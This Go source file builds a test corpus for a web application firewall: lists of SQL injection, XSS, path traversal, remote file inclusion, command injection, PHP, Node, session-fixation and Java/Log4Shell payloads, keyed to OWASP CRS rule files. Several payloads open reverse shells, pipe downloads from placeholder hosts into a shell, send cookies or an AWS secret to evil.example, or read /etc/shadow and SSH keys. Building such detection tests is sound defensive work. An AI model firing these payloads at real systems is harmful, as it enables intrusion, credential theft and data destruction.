package main

// Attack payloads by CRS rule file; each is placed in several parts of a
// request by spread. They cover the families each file detects, not one
// rule each: plain, obfuscated (case, comments, encodings) and the kind
// real scanners send.

var sqli = []string{ // 942
	`' OR '1'='1`,
	`1' OR 1=1-- -`,
	`admin'--`,
	`1 UNION SELECT username, password FROM members`,
	`-7 union all select null,null,version()--`,
	`'; DROP TABLE invoices; --`,
	`1 AND SLEEP(4)`,
	`1) AND (SELECT 1 FROM (SELECT SLEEP(3))x)-- `,
	`'; WAITFOR DELAY '00:00:04'--`,
	`1 AND BENCHMARK(4000000,SHA1(0x41))`,
	`' AND extractvalue(rand(),concat(0x3a,(select user())))-- `,
	`1 and updatexml(null,concat(0x2e,database()),null)`,
	`' UNION SELECT table_name FROM information_schema.tables WHERE 'a'='a`,
	`1' ORDER BY 9-- `,
	`x' HAVING 1=1--`,
	`'; EXEC master..xp_cmdshell 'net user'--`,
	`1;SELECT pg_sleep(5)--`,
	`' || (select password from staff limit 1) || '`,
	`" or ""="`,
	`1 AND 1=CONVERT(int,(SELECT @@version))`,
	`SELECT LOAD_FILE('/etc/hosts')`,
	`' INTO OUTFILE '/tmp/dump.txt`,
	`1/**/UNION/**/SELECT/**/1,2,3`,
	`1 AND ASCII(SUBSTRING((SELECT name FROM users LIMIT 1),1,1))>64`,
	`' or 2 between 1 and 3 -- `,
	`1' AND (SELECT COUNT(*) FROM sysobjects)>0--`,
	`' OR 'x' LIKE 'x`,
	`1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)`,
	`'+(SELECT 0 WHERE 1=1)+'`,
	`1;declare @q varchar(99);set @q=0x73656c656374;exec(@q)`,
	`1 AND (CASE WHEN (7=7) THEN 1 ELSE 0 END)=1`,
	`0x50 uNiOn SeLeCt GROUP_CONCAT(email) fRoM accounts`,
	`1'||(SELECT CHR(65)||CHR(66) FROM DUAL)||'`,
	`') or ('a'='a`,
	`1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))`,
	`'; INSERT INTO admins (login) VALUES ('mallory');--`,
	`1 AND MAKE_SET(1=1,1)`,
	`-1' UNION SELECT 1,@@datadir,3#`,
}

var xss = []string{ // 941
	`<script>alert(1)</script>`,
	`<img src=x onerror=alert(document.domain)>`,
	`"><svg/onload=confirm(7)>`,
	`javascript:alert('hi')`,
	`<iframe src="javascript:prompt(1)"></iframe>`,
	`<body onload=fetch('//evil.example/'+document.cookie)>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<div style="width:expression(alert(3))">`,
	`<ScRiPt src=//evil.example/x.js></sCrIpT>`,
	`&#60;script&#62;alert(2)&#60;/script&#62;`,
	`+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
	`<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
	`<input autofocus onfocus=alert(1)>`,
	`<details open ontoggle=alert(9)>`,
	`<math><mtext><a xlink:href="javascript:alert(1)">m</a></mtext></math>`,
	`'-alert(1)-'`,
	`<embed src="//evil.example/movie.swf">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<link rel=stylesheet href="javascript:alert(1)">`,
	`<img src="x" onmouseover="alert(String.fromCharCode(88,83,83))">`,
	`<style>@import 'http://evil.example/x.css';</style>`,
	`<x onclick=eval(atob('YWxlcnQoMSk='))>click`,
	`<video><source onerror="alert(1)">`,
	`<form action="javascript:alert(1)"><button>go</button></form>`,
	`%3Cscript%3Ealert(1)%3C%2Fscript%3E`,
	`<isindex type=image src=1 onerror=alert(1)>`,
	`document.write('<scr'+'ipt src=//evil.example></scr'+'ipt>')`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<table background="javascript:alert(1)">`,
	`<applet code="Evil.class">`,
	`<img src=1 onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>`,
	`<a href="jav&#x09;ascript:alert(1)">tab</a>`,
}

var lfi = []string{ // 930
	`../../../../etc/passwd`,
	`..\..\..\windows\win.ini`,
	`....//....//etc/shadow`,
	`%2e%2e%2f%2e%2e%2fetc%2fpasswd`,
	`/etc/passwd`,
	`../../boot.ini`,
	`/proc/self/environ`,
	`..%c0%af..%c0%afetc/passwd`,
	`../.htaccess`,
	`../../../var/log/apache2/access.log`,
	`/root/.ssh/id_rsa`,
	`C:\Windows\System32\drivers\etc\hosts`,
	`../config/database.yml`,
	`/etc/nginx/nginx.conf`,
	`..;/..;/WEB-INF/web.xml`,
	`....\\....\\....\\inetpub\\wwwroot\\web.config`,
}

var rfi = []string{ // 931
	`http://203.0.113.7/shell.txt`,
	`https://evil.example/payload.txt?`,
	`http://evil.example/inc/boot.php`,
	`ftp://198.51.100.3/a.php`,
	`http://192.0.2.10/inc.txt%00`,
	`hTTps://evil.example/x.txt??`,
	`http://evil.example:8080/cmd.txt#`,
	`\\198.51.100.20\share\run.php`,
}

var rce = []string{ // 932
	`; cat /etc/passwd`,
	`| id`,
	"`uname -a`",
	`$(whoami)`,
	`&& ping -c 4 127.0.0.1`,
	`; nc -e /bin/sh 192.0.2.9 4444`,
	`| wget http://192.0.2.4/b.sh -O- | sh`,
	`;curl -s http://evil.example/x|bash`,
	`; rm -rf /tmp/*`,
	`bash -i >& /dev/tcp/192.0.2.5/9001 0>&1`,
	`() { :; }; /bin/echo vulnerable`,
	`cmd.exe /c dir c:\`,
	`powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AA==`,
	`; ls${IFS}-la`,
	"\ncat /etc/passwd",
	`|| python3 -c 'import os;os.system("id")'`,
	`; perl -e 'print 1'`,
	`& net user visitor P4ss /add`,
	`; chmod 777 /tmp/x`,
	`$(sleep 5)`,
	`; echo c2ggLWk= | base64 -d | sh`,
	`;/bin/busybox telnetd -l /bin/sh`,
	`;/usr/bin/id`,
	`& systeminfo`,
	`| type C:\boot.ini`,
	`; sh -c "ps aux"`,
	`a;w`,
	`Invoke-WebRequest -Uri http://evil.example/a.ps1 | iex`,
}

var php = []string{ // 933
	`<?php system($_GET['x']); ?>`,
	"<?= `id` ?>",
	`php://filter/convert.base64-encode/resource=index.php`,
	`php://input`,
	`phpinfo()`,
	`eval(base64_decode('ZWNobyAxOw=='));`,
	`assert($_POST[a])`,
	`file_put_contents('s.php','<?php')`,
	`$_SERVER['HTTP_HOST']`,
	`allow_url_include=On`,
	`O:8:"Exploit":1:{s:4:"cmd";s:2:"id";}`,
	`preg_replace('/.*/e','system(id)','')`,
	`call_user_func('system','ls')`,
	`shell_exec('ls -l')`,
	`${@print(md5(1))}`,
	`data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==`,
	`zip://upload.jpg#s.php`,
	`phar://uploads/a.phar`,
	`create_function('', 'return 1;')`,
	`$f='sys'.'tem';$f('id');`,
	`a:2:{i:0;O:4:"Demo":0:{}i:1;s:1:"x";}`,
}

var node = []string{ // 934
	`require('child_process').execSync('id')`,
	`_$$ND_FUNC$$_function(){require('child_process').exec('ls')}()`,
	`process.mainModule.require('fs').readFileSync('/etc/passwd')`,
	`this.constructor.constructor('return process')()`,
	`new Function('return this.process')()`,
	`eval(String.fromCharCode(97,108,101,114,116,40,49,41))`,
	`function(){ return global.process.env }`,
	`module.exports = function(){}`,
}

var fixation = []string{ // 943
	`<meta http-equiv="Set-Cookie" content="sessionid=1337">`,
	`document.cookie="JSESSIONID=abc123;path=/"`,
	`x; Set-Cookie: PHPSESSID=fixed`,
	`javascript:document.cookie='sid=evil'`,
}

var java = []string{ // 944
	`java.lang.Runtime.getRuntime().exec("id")`,
	`${jndi:ldap://192.0.2.1:1389/a}`,
	`${${lower:j}ndi:${lower:l}dap://evil.example/x}`,
	`class.module.classLoader.resources.context.parent.pipeline.first.pattern=x`,
	`%{(#_memberAccess['allowStaticMethodAccess']=true)}`,
	`new java.lang.ProcessBuilder("sh").start()`,
	`rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==`,
	`java.io.ObjectInputStream`,
	`org.apache.commons.collections.functors.InvokerTransformer`,
	`javax.script.ScriptEngineManager`,
	`#{T(java.lang.Runtime).getRuntime().exec('id')}`,
	`xwork.MethodAccessor.denyMethodExecution=false`,
	`java.lang.Class.forName("java.lang.System")`,
	`${jndi:dns://evil.example/q}`,
	`${env:AWS_SECRET_ACCESS_KEY:-x}${jndi:rmi://192.0.2.1/o}`,
}

// addAttacks places the payload lists, then the attacks whose place is
// fixed by what they are (headers, file uploads, methods, scanners).
func addAttacks(c *corpus) {
	all := []string{"q", "form", "json", "cookie", "mp", "qraw", "bigform", "argname", "ref", "xml", "mpfile", "ua", "hdr"}
	spread(c, "942", sqli, all, 3)
	spread(c, "942", sqli[:8], []string{"path"}, 1)
	spread(c, "941", xss, all, 3)
	spread(c, "941", xss[:6], []string{"path"}, 1)
	spread(c, "930", lfi, []string{"q", "form", "json", "qraw", "cookie", "mp", "bigform", "xml", "hdr"}, 3)
	spread(c, "931", rfi, []string{"q", "form", "json", "qraw", "mp", "bigform", "cookie"}, 3)
	spread(c, "932", rce, all, 3)
	spread(c, "933", php, all, 3)
	spread(c, "934", node, all, 3)
	spread(c, "943", fixation, []string{"q", "form", "json", "qraw"}, 3)
	spread(c, "944", java, all, 3)
}
